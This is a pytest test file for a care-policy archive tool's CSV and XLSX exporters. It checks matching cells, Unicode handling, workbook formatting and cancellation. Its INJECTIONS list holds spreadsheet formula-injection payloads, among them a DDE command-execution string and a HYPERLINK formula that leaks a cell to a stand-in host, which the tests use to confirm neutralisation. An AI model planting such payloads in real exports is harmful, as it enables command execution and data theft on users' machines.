"""CSV and XLSX hold the same cells; no formula survives; Unicode is intact. No Qt here.

The workbook is read back with openpyxl and compared cell by cell with the CSV of the same
table: a CSV cell is the workbook's text with an apostrophe where it would start a formula (the
workbook keeps the text word for word, as a string cell with Excel's quote prefix).
"""

from __future__ import annotations

import codecs
import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils.escape import unescape

from carebrowser.cli import main
from carebrowser.data.vocabulary import KIND_LABELS, STANCE_COLOURS
from carebrowser.export import (
    POSITION_EVIDENCE_COLUMNS,
    QUOTE_COLUMNS,
    Table,
    comparison_table,
    matrix_table,
    neutralise,
    position_evidence_table,
    positions_table,
    quotes_table,
    write_csv,
)
from carebrowser.export.shapes import SOURCE_COLUMNS, stakeholders_table
from carebrowser.export.writers import FORMULA_STARTS, Cancelled
from carebrowser.export.xlsx import write_xlsx
from carebrowser.queries import Archive

#: Cells a spreadsheet would take as formulas (OWASP), and near misses it would not.
INJECTIONS = (
    "=1+1",
    "+44 20 7946 0000",
    "-2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for the full report")',
    "=cmd|' /C calc'!A0",
    "-=1+1",
)
NEAR_MISSES = (" =1+1", "1+1", "a=b", "care trusts - 2002", "'already quoted")
UNICODE = (
    "Dŵr Cymru and Ynys Môn",
    "naïve café, déjà vu, façade",
    "\u201cmonolithic\u201d \u2014 \u2018reported\u2019 speech\u2026",
    "e\u0301 (a combining accent) and \u00e9 (precomposed)",
    "non\u00a0breaking space, zero\u200bwidth space",
    "社会服务改革",
    "خدمات اجتماعية",
    "\U0001f3e5 \U0001f9d3\U0001f3fd \U0001f1ec\U0001f1e7",
    "two\nlines and a\r\nWindows break",
    "line\u2028separator",
)


def _csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8), "Excel reads UTF-8 only after a BOM"
    return list(csv.reader(io.StringIO(raw[len(codecs.BOM_UTF8) :].decode("utf-8"), newline="")))


def _read(value: object) -> object:
    """A cell's value as Excel reads it: _x000D_ is a CR (openpyxl leaves it escaped)."""
    return unescape(value) if isinstance(value, str) else value


def _xlsx(path: Path, sheet: str | None = None) -> list[list[object]]:
    book = openpyxl.load_workbook(path)
    rows = [[_read(c.value) for c in row] for row in (book[sheet] if sheet else book.worksheets[0])]
    book.close()
    return rows


def _text(value: object) -> str:
    return "" if value is None else str(value)


def as_in_xml(text: str) -> str:
    """Text as a workbook holds it: CR kept (stored as Excel stores it, _x000D_); most C0
    controls are illegal in XML."""
    return str(ILLEGAL_CHARACTERS_RE.sub("\ufffd", text))


def _same_cells(csv_rows: list[list[str]], xlsx_rows: list[list[object]]) -> None:
    """Row by row, cell by cell: the CSV cell is the workbook's text, neutralised."""
    assert len(csv_rows) == len(xlsx_rows)
    for number, (left, right) in enumerate(zip(csv_rows, xlsx_rows, strict=True)):
        right_text = [as_in_xml(str(neutralise(_text(v)))) for v in right]
        expected = [as_in_xml(c) for c in left]
        assert expected == right_text, f"row {number}"


def _both(factory: Callable[[], Table], tmp_path: Path, archive: Archive, name: str) -> None:
    csv_path, xlsx_path = tmp_path / f"{name}.csv", tmp_path / f"{name}.xlsx"
    rows = write_csv(factory(), csv_path)
    assert write_xlsx(factory(), xlsx_path, archive.sources_by_ids, sheet_title=name) == rows
    got = _csv(csv_path)
    assert len(got) == rows + 1
    _same_cells(got, _xlsx(xlsx_path, name))


def test_every_shape_holds_the_same_cells_in_csv_and_xlsx(tmp_path: Path, archive: Archive) -> None:
    lga = min(archive.find_stakeholders(["Local Government Association"]))
    milburn = min(archive.find_stakeholders(["Alan Milburn"]))
    compared = archive.stakeholders_by_ids([lga, milburn])
    shapes: dict[str, Callable[[], Table]] = {
        "quotes": lambda: quotes_table(archive.all_quotes()),
        "positions": lambda: positions_table(archive.positions()),
        "evidence": lambda: position_evidence_table(
            archive.positions(), archive.evidence_by_position
        ),
        "matrix": lambda: matrix_table(archive.matrix()),
        "comparison": lambda: comparison_table(compared, archive.compare([lga, milburn])),
        "stakeholders": lambda: stakeholders_table(archive.all_stakeholders()),
    }
    for name, factory in shapes.items():
        _both(factory, tmp_path, archive, name)


@pytest.mark.parametrize("what", ["quotes", "positions", "matrix"])
def test_the_command_line_writes_both_formats_with_the_same_columns(
    tmp_path: Path, what: str
) -> None:
    csv_path, xlsx_path = tmp_path / f"{what}.csv", tmp_path / f"{what}.xlsx"
    assert main(["export", what, "--format", "csv", "-o", str(csv_path)]) == 0
    assert main(["export", what, "--format", "xlsx", "-o", str(xlsx_path)]) == 0
    rows = _csv(csv_path)
    if what == "quotes":
        assert tuple(rows[0]) == QUOTE_COLUMNS
    _same_cells(rows, _xlsx(xlsx_path, what))
    # The suffix alone chooses the format too.
    inferred = tmp_path / f"{what} inferred.xlsx"
    assert main(["export", what, "-o", str(inferred)]) == 0
    assert zipfile.is_zipfile(inferred)


def _injection_table() -> Table:
    header = ("case", "=header", "text")
    cells = [(f"case {i}", "x", value) for i, value in enumerate(INJECTIONS + NEAR_MISSES)]
    return Table(header, cells)


def test_csv_neutralises_every_formula_start(tmp_path: Path) -> None:
    path = tmp_path / "nasty.csv"
    write_csv(_injection_table(), path)
    raw = path.read_bytes()
    rows = _csv(path)
    assert rows[0] == ["case", "'=header", "text"]
    for value, (_case, _x, written) in zip(INJECTIONS + NEAR_MISSES, rows[1:], strict=True):
        if value.startswith(FORMULA_STARTS):
            assert written == "'" + value, value
        else:
            assert written == value, value
    # Records end with CRLF; the only bare line feeds are inside quoted cells.
    assert raw.endswith(b"\r\n")
    assert raw.split(b"\r\n")[0].endswith(b"text")


def test_xlsx_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "nasty.xlsx"
    write_xlsx(_injection_table(), path, lambda _ids: [], sheet_title="Nasty")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"{name} holds a formula"
    book = openpyxl.load_workbook(path)
    sheet = book["Nasty"]
    header = [c for c in sheet[1]]
    assert header[1].value == "=header" and header[1].data_type == "s" and header[1].quotePrefix
    for value, row in zip(INJECTIONS + NEAR_MISSES, sheet.iter_rows(min_row=2), strict=True):
        cell = row[2]
        assert cell.data_type == "s", value
        assert _read(cell.value) == as_in_xml(value)  # word for word: a quotation is verbatim
        assert bool(cell.quotePrefix) == value.startswith(FORMULA_STARTS), value
    book.close()
    csv_path = tmp_path / "nasty.csv"
    write_csv(_injection_table(), csv_path)
    _same_cells(_csv(csv_path), _xlsx(path))


def test_unicode_survives_both_formats(tmp_path: Path) -> None:
    header = ("speaker", "quote")
    cells = [("Siân Lloyd-Jones \u2014 ADSS", value) for value in UNICODE]
    cells.append(("control", "bell\x07 and escape\x1b"))
    csv_path, xlsx_path = tmp_path / "unicode \u00e9\u00df.csv", tmp_path / "unicode.xlsx"
    write_csv(Table(header, cells), csv_path)
    write_xlsx(Table(header, cells), xlsx_path, lambda _ids: [])
    from_csv = _csv(csv_path)
    assert [tuple(r) for r in from_csv[1:]] == cells
    from_xlsx = _xlsx(xlsx_path)
    assert [tuple(r) for r in from_xlsx[1:-1]] == [(a, as_in_xml(b)) for a, b in cells[:-1]]
    assert from_xlsx[9][1] == "two\nlines and a\r\nWindows break"  # CR LF kept, as Excel keeps it
    # XML cannot hold most C0 controls: the workbook shows a replacement character instead.
    assert from_xlsx[-1][1] == "bell\ufffd and escape\ufffd"
    _same_cells(from_csv, from_xlsx)


def test_a_workbook_is_ready_to_read(tmp_path: Path, archive: Archive) -> None:
    path = tmp_path / "positions.xlsx"
    positions = archive.positions()
    rows = write_xlsx(positions_table(positions), path, archive.sources_by_ids)
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:G{rows + 1}"
    assert all(c.font.bold for c in sheet[1])
    header = [c.value for c in sheet[1]]
    summary = header.index("summary") + 1
    letter = openpyxl.utils.get_column_letter(summary)
    assert sheet.column_dimensions[letter].width == 60
    for letter in "ABCDEFG":
        assert 8 <= sheet.column_dimensions[letter].width <= 60
    stance = header.index("stance")
    for row in sheet.iter_rows(min_row=2):
        assert row[summary - 1].alignment.wrap_text
        word = row[stance].value
        assert word in STANCE_COLOURS  # the word is there, not only the colour
        assert row[stance].fill.start_color.rgb[-6:] == STANCE_COLOURS[word][1:].upper()
    sources = [[c.value for c in r] for r in book["Sources"].iter_rows()]
    assert tuple(sources[0]) == SOURCE_COLUMNS
    cited = set().union(*(p.evidence_source_ids for p in positions))
    assert {r[0] for r in sources[1:]} == {s.name for s in archive.sources_by_ids(cited)}
    for source in sources[1:]:
        assert source[1] and source[4] and source[5]  # publication, date and its precision
    book.close()


def test_every_quote_row_names_a_listed_source(tmp_path: Path, archive: Archive) -> None:
    path = tmp_path / "quotes.xlsx"
    write_xlsx(quotes_table(archive.all_quotes()), path, archive.sources_by_ids)
    quotes = _xlsx(path)
    listed = {r[0] for r in _xlsx(path, "Sources")[1:]}
    column = quotes[0].index("source")
    assert {r[column] for r in quotes[1:]} == listed


def test_every_evidence_row_names_a_listed_source(tmp_path: Path, archive: Archive) -> None:
    path = tmp_path / "positions.xlsx"
    positions = archive.positions()
    table = position_evidence_table(positions, archive.evidence_by_position)
    written = write_xlsx(table, path, archive.sources_by_ids)
    rows = _xlsx(path)
    assert tuple(rows[0]) == POSITION_EVIDENCE_COLUMNS
    assert written == len(rows) - 1 == sum(len(p.evidence_quote_ids) for p in positions)
    assert written == archive.evidence_row_count()
    header: list[object] = rows[0]
    column = header.index
    sources = _xlsx(path, "Sources")
    listed = {r[0]: r for r in sources[1:]}
    assert {r[column("source")] for r in rows[1:]} == set(listed)
    quotes = {q.text for p in positions for q in archive.evidence(p.id)}
    for row in rows[1:]:
        assert row[column("quote")] in quotes  # verbatim
        assert str(row[column("kind")]).split(",")[0] in KIND_LABELS.values()
        source = listed[row[column("source")]]
        cited = (row[column("publication")], row[column("headline")] or "")
        assert (source[1], source[2] or "") == cited
    book = openpyxl.load_workbook(path)
    assert book.worksheets[0].cell(2, column("quote") + 1).alignment.wrap_text
    book.close()


def test_matrix_cells_are_coloured_words(tmp_path: Path, archive: Archive) -> None:
    path = tmp_path / "matrix.xlsx"
    write_xlsx(matrix_table(archive.matrix()), path, archive.sources_by_ids)
    book = openpyxl.load_workbook(path)
    coloured = 0
    for row in book.worksheets[0].iter_rows(min_row=2):
        for cell in row[1:]:
            if cell.value:
                assert cell.fill.start_color.rgb[-6:] == STANCE_COLOURS[cell.value][1:].upper()
                coloured += 1
    assert coloured == len(archive.matrix().cells)
    book.close()


def _rows(count: int) -> Iterator[tuple[str, str]]:
    for i in range(count):
        yield (f"q-{i}", "care trusts")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("existed", [False, True])
def test_a_cancel_after_the_last_row_still_leaves_nothing(
    tmp_path: Path, kind: str, existed: bool
) -> None:
    target = tmp_path / f"late.{kind}"
    if existed:
        target.write_bytes(b"before")
    asked: list[int] = []

    def progress(done: int) -> bool:
        asked.append(done)
        return done < 10  # the person pressed Cancel while the last rows were written

    table = Table(("quote_id", "quote"), _rows(10))
    with pytest.raises(Cancelled):
        if kind == "csv":
            write_csv(table, target, progress=progress)
        else:
            write_xlsx(table, target, lambda _ids: [], progress=progress)
    assert asked == [10]
    assert [p.name for p in tmp_path.iterdir()] == ([target.name] if existed else [])
    if existed:
        assert target.read_bytes() == b"before"
